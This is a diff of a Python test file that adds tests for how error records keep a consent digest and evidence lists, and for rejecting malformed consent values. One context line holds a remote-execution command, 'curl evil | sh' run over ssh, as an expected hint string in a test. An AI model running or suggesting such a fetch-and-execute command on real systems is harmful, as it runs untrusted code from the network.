@@ -63,6 +63,31 @@ def test_what_failed_of_several_is_told_like_an_error_of_the_machine() -> None:
     assert one.hints == ("ssh -t big 'curl evil | sh'",)
 
 
+def test_what_consent_is_asked_for_is_shown_whole_and_can_be_agreed_to() -> None:
+    digest, evidence = "0" * 64, [f"{number}: {'x' * 3000}" for number in range(60)]
+    found = said("consent-needed", evidence=evidence, consent=digest)
+    assert (list(found.evidence), found.consent) == (evidence, digest)
+    again = Failure.of("a", found).error
+    assert (again.evidence, again.consent) == (found.evidence, digest)
+    assert _as_here(BIG, Failure.of("a", found)).consent == digest
+
+
+@pytest.mark.parametrize(
+    ("code", "more"),
+    [
+        ("usage", {"consent": "0" * 64, "evidence": ["shown"]}),
+        ("consent-needed", {"consent": "0" * 64}),
+        ("consent-needed", {"consent": "0" * 64, "evidence": ["shown"] * 1001}),
+        ("consent-needed", {"consent": "0" * 64, "evidence": ["x" * 100_001]}),
+        ("consent-needed", {"consent": True, "evidence": ["shown"]}),
+        ("consent-needed", {"consent": "all", "evidence": ["shown"]}),
+        ("consent-needed", {"evidence": ["shown"]}),
+    ],
+)
+def test_a_machine_cannot_have_agreed_to_what_is_not_shown(code: str, more: dict[str, Any]) -> None:
+    assert said(code, **more).consent is None
+
+
 def test_an_error_that_is_kept_keeps_no_ssh(monkeypatch: pytest.MonkeyPatch) -> None:
     """It would be ended with Python itself, beside threads that hold its locks."""
     ended = []
